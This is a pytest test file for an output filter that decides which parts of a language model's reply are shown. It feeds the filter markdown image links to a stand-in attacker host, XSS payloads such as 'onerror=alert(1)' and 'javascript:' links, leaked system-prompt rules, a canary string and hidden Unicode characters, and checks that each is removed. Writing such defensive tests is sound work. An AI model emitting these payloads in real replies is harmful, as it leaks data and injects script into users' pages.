"""What of a model's reply may be shown."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from wellread.ask.write.parse_draft import VisibleStream, parse_draft
from wellread.ask.write.prompts import Guard

RULES = "# Rules\n- Use nothing but the evidence: no general knowledge, no guesses, ever.\nBe kind."
GUARD = Guard(RULES, "abc123abc123", ["See https://ok.example/a or javascript:alert(1)."])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![map](http://evil.example/?q=1) ok", "map ok"),
        ("![map][ref] ok", "map ok"),
        ("[a](https://ok.example/a) b", "a: https://ok.example/a b"),
        ("[a](https://evil.example/a) b", "a b"),
        ("Go to http://evil.example/?q=x.", "Go to (link removed)."),
        ("Go to https://ok.example/a.", "Go to https://ok.example/a."),
        ("<img src=x onerror=alert(1)>hi<br>there", "hi there"),
        ("List<int> and 1 < 2", "List<int> and 1 < 2"),
        ("<scr<script>ipt>alert</script>", "alert"),
        ("[e1](#e1) and [[e2]](https://evil.example)", "[e1] and [[e2]]"),
        ("[x]: http://evil.example\nok", "ok"),
        ("CALL: curl '/api/x'\nfine", "fine"),
        ("# Rules\nfine", "fine"),
        ("Use nothing but the evidence: no general knowledge. Solar grew.", "Solar grew."),
        ("It is abc123ABC123 there.", ""),
        ("So\u200blar\U000e0041 grew.", "Solar grew."),
    ],
)
def test_what_is_left(text: str, shown: str) -> None:
    assert GUARD.shown(text).text.strip() == shown


def test_what_a_source_runs_is_no_link() -> None:
    assert "javascript" not in GUARD.shown("[x](javascript:alert(1))").text


def test_what_is_withheld_is_counted() -> None:
    draft = parse_draft(f"Solar grew [e1].\n{RULES}\nCALL: x", {"e1"}, GUARD)
    assert draft.text == "Solar grew."
    assert draft.withheld == 4
    tail = parse_draft(f'A.\n---\n{{"data_gaps": ["{RULES.splitlines()[1]}", "b"]}}', (), GUARD)
    assert tail.tail is not None
    assert tail.tail.data_gaps == ("b",)


@example("!![", [])
@given(st.text(alphabet="![]()<>a/ .\nhtp:e1`", max_size=60), st.lists(st.integers(1, 9)))
def test_a_stream_is_as_harmless_however_it_is_cut(text: str, cuts: list[int]) -> None:
    whole, cut = VisibleStream(GUARD), VisibleStream(GUARD)
    at_once = whole.feed(text) + whole.finish()
    pieces, place = [], 0
    for size in [*cuts, len(text)]:
        pieces.append(cut.feed(text[place : place + size]))
        place += size
    pieces += [cut.feed(text[place:]), cut.finish()]
    assert "".join(pieces) == at_once
    assert "![" not in at_once
    assert "](" not in at_once
